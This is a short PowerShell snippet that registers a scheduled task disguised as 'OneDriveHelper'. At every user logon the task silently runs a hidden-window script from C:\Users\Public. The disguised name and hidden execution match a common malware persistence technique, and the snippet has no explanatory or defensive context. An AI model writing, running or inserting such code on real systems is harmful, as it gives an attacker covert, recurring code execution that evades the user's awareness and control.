$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -File C:\Users\Public\s.ps1'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'OneDriveHelper' -Action $action -Trigger $trigger -Force
